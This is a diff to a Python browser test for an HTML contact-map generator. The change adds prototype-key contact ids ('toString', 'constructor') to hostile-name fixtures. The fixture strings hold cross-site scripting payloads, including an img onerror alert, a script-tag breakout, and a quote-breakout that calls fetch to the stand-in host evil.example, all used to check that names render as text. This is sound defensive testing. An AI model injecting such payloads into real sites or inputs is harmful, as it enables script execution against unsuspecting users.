@@ -119,14 +119,15 @@ def test_the_paths_map_in_a_browser(run, tmp_path: Path) -> None:
 def test_hostile_names_stay_text_in_a_browser(run, tmp_path: Path) -> None:
     contacts = write(
         tmp_path,
-        'me: a\npeople:\n  a: {name: "Ann <img src=x onerror=alert(1)>",'
+        'me: toString\npeople:\n  toString: {name: "Ann <img src=x onerror=alert(1)>",'
         ' company: "</script><script>alert(2)</script>"}\n'
-        '  b: {name: "Ben \\"); fetch(\'//evil.example\'); (\\"", company: "<b>B</b>"}\n'
-        "relationships: [{between: [a, b]}]\n",
+        '  constructor: {name: "Ben \\"); fetch(\'//evil.example\'); (\\"", company: "<b>B</b>"}\n'
+        "relationships: [{between: [toString, constructor]}]\n",
     )
     page = tmp_path / "hostile.html"
     assert run("map", "--out", str(page), contacts=contacts).exit_code == 0
-    report = drive(page, tmp_path / "hostile-shots", hover="b", search="<b>", path=None)
+    report = drive(page, tmp_path / "hostile-shots", hover="constructor", search="<b>", path=None)
     assert_offline(report, page)
     assert report["tip"].splitlines()[:2] == ["Ben \"); fetch('//evil.example'); (\"", "<b>B</b>"]
-    assert report["search_picked"] == ["b"]
+    assert report["hover_picked"] == ["constructor", "toString"]  # ids are data, not object keys
+    assert report["search_picked"] == ["constructor"]
